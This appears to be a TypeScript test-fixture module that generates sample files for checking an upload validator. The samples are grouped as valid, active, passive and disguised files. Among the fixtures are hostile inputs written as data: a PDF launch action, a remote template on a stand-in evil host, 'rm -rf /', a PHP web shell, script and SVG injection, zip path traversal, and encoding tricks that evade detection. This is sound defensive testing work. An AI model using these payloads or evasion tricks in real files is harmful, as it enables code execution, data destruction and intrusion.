import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/** A zip as Office programs write it. */
export const createZip = (entries: Readonly<Record<string, string | Buffer>>) => {
  const parts: Buffer[] = [];
  const list: Buffer[] = [];
  let at = 0;
  for (const [name, content] of Object.entries(entries)) {
    const plain = Buffer.from(content);
    const packed = deflateRawSync(plain);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(crc32(plain), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(plain.length, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), common, Buffer.from(name), packed]);
    const where = Buffer.alloc(14);
    where.writeUInt32LE(at, 10);
    const made = Buffer.from([20, 0]);
    list.push(Buffer.concat([Buffer.from('PK\u0001\u0002', 'latin1'), made, common, where, Buffer.from(name)]));
    parts.push(local);
    at += local.length;
  }
  const listed = Buffer.concat(list);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(list.length, 8);
  end.writeUInt16LE(list.length, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...parts, listed, end]);
};

const compoundSector = 512;

/** A file as old Office programs write it: a header, the allocation table, and a directory of these names. */
export const createCompoundFile = (names: readonly string[]) => {
  const header = Buffer.alloc(compoundSector, 0xff);
  header.fill(0, 0, 76);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header);
  header.writeUInt16LE(9, 30);
  header.writeUInt32LE(1, 44);
  const [endOfChain, ownSector] = [0xff_ff_ff_fe, 0xff_ff_ff_fd];
  header.writeUInt32LE(1, 48);
  header.writeUInt32LE(endOfChain, 68);
  header.writeUInt32LE(0, 76);
  const all = ['Root Entry', ...names];
  const directory = Buffer.alloc(Math.ceil(all.length / 4) * compoundSector);
  for (const [index, name] of all.entries()) {
    directory.write(name, index * 128, 'utf16le');
    directory.writeUInt16LE(name.length * 2 + 2, index * 128 + 64);
    directory.writeUInt8(index === 0 ? 5 : 2, index * 128 + 66);
  }
  const table = Buffer.alloc(compoundSector, 0xff);
  table.writeUInt32LE(ownSector, 0);
  const sectors = directory.length / compoundSector;
  for (let sector = 1; sector <= sectors; sector += 1)
    table.writeUInt32LE(sector === sectors ? endOfChain : sector + 1, sector * 4);
  return Buffer.concat([header, table, directory]);
};

const createPdf = (body: string | Buffer) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(body), Buffer.from('\n%%EOF\n')]);
const objectStream = (text: string, more = '') => {
  const packed = deflateSync(text);
  const dictionary = `5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}${more}>>stream\n`;
  return Buffer.concat([Buffer.from(dictionary), packed, Buffer.from('\nendstream endobj')]);
};

const createOfficeFile = (folder: string, more: Record<string, string> = {}) =>
  createZip({ '[Content_Types].xml': '<Types/>', [`${folder}/document.xml`]: '<document/>', ...more });
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');
const ole = createCompoundFile(['WordDocument', '\u0001CompObj']);

/** One valid file of each type. */
export const validFileSamples: Readonly<Record<string, Buffer>> = {
  'a.pdf': pdf,
  'a.png': png,
  'a.jpg': jpeg,
  'a.jpeg': jpeg,
  'a.docx': createOfficeFile('word'),
  'a.xlsx': createOfficeFile('xl'),
  'a.pptx': createOfficeFile('ppt'),
  'a.doc': ole,
  'a.xls': ole,
  'a.csv': Buffer.from('船名,総トン数\r\n飛鳥II,50444\r\n'),
  'a.txt': Buffer.from('1 < 2, 入港届'),
  // 入港届 in Shift_JIS
  'sjis.txt': Buffer.from('93fc8d6093cd', 'hex'),
};

const relations = (...elements: string[]) => ({
  'word/_rels/settings.xml.rels': `<Relationships>${elements.join('')}</Relationships>`,
});
const officeTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const link = `<Relationship Id="r1" Type="${officeTypes}/hyperlink" Target="https://example.jp" TargetMode="External"/>`;
const template = `<Relationship Id="r2" TargetMode='External' Type="${officeTypes}/attachedTemplate" Target="https://evil.example/x.dotm"/>`;

/** Files that match their name and do something when they are opened, or cannot be inspected. */
export const activeFileSamples: Readonly<Record<string, Buffer>> = {
  'macro.doc': createCompoundFile(['WordDocument', 'Macros', 'VBA']),
  'macro.xls': createCompoundFile(['Workbook', '_VBA_PROJECT_CUR']),
  'package.doc': createCompoundFile(['WordDocument', '\u0001Ole10Native']),
  'encrypted.xls': createCompoundFile(['EncryptedPackage', 'EncryptionInfo']),
  'broken.doc': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]),
  'script.pdf': createPdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  'coded-script.pdf': createPdf('1 0 obj<</OpenAction<</S/J#61vaScript/JS(1)>>>>endobj'),
  'packed-script.pdf': createPdf(objectStream('1 0 <</S/JavaScript/JS(1)>>')),
  'padded-script.pdf': createPdf(objectStream('1 0 <</S/JavaScript/JS(1)>>', `/X(${' '.repeat(1000)})`)),
  'script-behind-keywords.pdf': createPdf(objectStream('1 0 <</S/JavaScript/JS(1)>>', '/X(endobj endstream\n 1 0 obj)')),
  'launch.pdf': createPdf('1 0 obj<</OpenAction<</S/Launch/F(calc.exe)>>>>endobj'),
  'attachment.pdf': createPdf('1 0 obj<</Type/EmbeddedFile>>endobj'),
  'encrypted.pdf': createPdf('trailer<</Encrypt 5 0 R>>'),
  'unreadable.pdf': createPdf('5 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\nxyz\nendstream'),
  'template.docx': createOfficeFile('word', relations(link, template)),
  'coded-template.docx': createOfficeFile('word', relations(template.replace('External', '&#69;xternal'))),
  'embedded.docx': createOfficeFile('word', { 'word/embeddings/oleObject1.bin': 'x' }),
  'macrosheet.xlsx': createOfficeFile('xl', { 'xl/macrosheets/sheet1.xml': '<x/>' }),
};

/** Files with features that are harmless. */
export const passiveFileSamples: Readonly<Record<string, Buffer>> = {
  'link.docx': createOfficeFile('word', relations(link)),
  'view.pdf': createPdf('1 0 obj<</OpenAction[3 0 R /Fit]/AcroForm 4 0 R>>endobj'),
  'packed.pdf': createPdf(objectStream('1 0 <</Type/Catalog/Pages 2 0 R>>')),
  'packed-and-picture.pdf': createPdf(
    Buffer.concat([
      objectStream('1 0 <</Type/Catalog>>'),
      Buffer.from('6 0 obj<</Filter/DCTDecode>>stream\nxyz\nendstream endobj'),
    ]),
  ),
};

const page = '<!DOCTYPE html><script>alert(1)</script>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const archive = createZip({ 'run.exe': 'MZ' });

/** Files whose content does not match their name, or matches more than one type. */
export const disguisedFileSamples: Readonly<Record<string, Buffer>> = {
  'page.pdf': Buffer.from(page),
  'page.txt': Buffer.from(page),
  'page.csv': Buffer.from(`a,b\n${svg}`),
  'svg.png': Buffer.from(svg),
  'program.pdf': Buffer.from('MZ\u0090\u0000', 'latin1'),
  'program.txt': Buffer.from('MZ this looks like text'),
  'script.txt': Buffer.from('#!/bin/sh\nrm -rf /\n'),
  'elf.jpg': Buffer.from('\u007fELF', 'latin1'),
  'archive.pdf': archive,
  'archive.docx': archive,
  'sheet.docx': createOfficeFile('xl'),
  'macro.docx': createOfficeFile('word', { 'word/vbaProject.bin': 'x' }),
  'climbing.docx': createOfficeFile('word', { 'word/../../x': 'x' }),
  'program-inside.xlsx': createOfficeFile('xl', { 'xl/run.exe': 'x' }),
  'pdf-and-zip.pdf': Buffer.concat([pdf, archive]),
  'png-and-zip.png': Buffer.concat([png, archive]),
  'png-and-page.png': Buffer.concat([png, Buffer.from(page)]),
  'jpeg-and-zip.jpg': Buffer.concat([jpeg, archive]),
  'page-and-jpeg.jpg': Buffer.concat([jpeg.subarray(0, 4), Buffer.from(page), jpeg.subarray(4)]),
  'jpeg-and-pdf.jpg': Buffer.concat([jpeg.subarray(0, 4), pdf, jpeg.subarray(4)]),
  'page-then.pdf': Buffer.concat([Buffer.from(page), pdf]),
  'pdf-with-page.pdf': Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.from(page), pdf]),
  'zip-with-end.docx': Buffer.concat([createOfficeFile('word'), Buffer.from(page)]),
  'zip-with-start.docx': Buffer.concat([Buffer.from(page), createOfficeFile('word')]),
  'ole-and-zip.doc': Buffer.concat([ole, archive]),
  'ole.docx': ole,
  'zip.doc': createOfficeFile('word'),
  'binary.csv': Buffer.from([1, 2, 3, 0]),
  'neither.txt': Buffer.from([0xff, 0xfe, 0x80, 0x81]),
  'short.png': png.subarray(0, 20),
  'half.docx': createOfficeFile('word').subarray(0, -5),
  'rtf.txt': Buffer.from('{\\rtf1 object}'),
  'php.txt': Buffer.from('<?php system($_GET[0]); ?>'),
  'postscript.txt': Buffer.from('%!PS-Adobe'),
};
